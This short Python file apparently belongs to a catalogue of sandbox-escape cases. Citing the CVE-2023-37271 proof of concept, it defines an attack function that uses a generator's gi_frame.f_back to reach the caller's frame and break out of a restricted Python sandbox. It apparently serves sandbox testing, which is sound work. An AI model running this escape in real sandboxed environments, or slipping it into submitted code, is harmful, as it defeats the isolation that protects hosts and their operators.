"""Class: frames. Source: CVE-2023-37271, its proof of concept. Escape: the same for a generator
expression.
"""


def attack(model, tokenizer, address):
    running = (running.gi_frame.f_back for _ in [1])
    return [each for each in running][0]
